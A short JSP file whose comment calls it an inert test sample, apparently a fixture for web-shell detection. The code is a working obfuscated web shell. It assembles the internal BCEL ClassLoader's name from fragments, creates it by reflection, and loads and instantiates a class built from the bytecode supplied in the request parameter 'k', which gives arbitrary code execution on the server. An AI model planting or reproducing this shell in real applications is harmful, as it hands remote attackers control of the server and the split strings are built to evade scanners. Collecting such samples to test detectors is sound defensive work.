<%-- test sample (inert): BCEL's class loader named in pieces and created by reflection, the
     "$$BCEL$$" marker assembled from fragments: the class it builds comes from the request --%>
<%
    String pkg = "com.sun.org.apache." + "bc" + "el.internal.util.";
    ClassLoader ldr = (ClassLoader) Class.forName(pkg + "Class" + "Loader").newInstance();
    String mark = "$$" + "BC" + "EL" + "$$";
    String body = request.getParameter("k");
    if (body != null) {
        Object o = ldr.loadClass(mark + body).newInstance();
        out.print(String.valueOf(o));
    }
%>
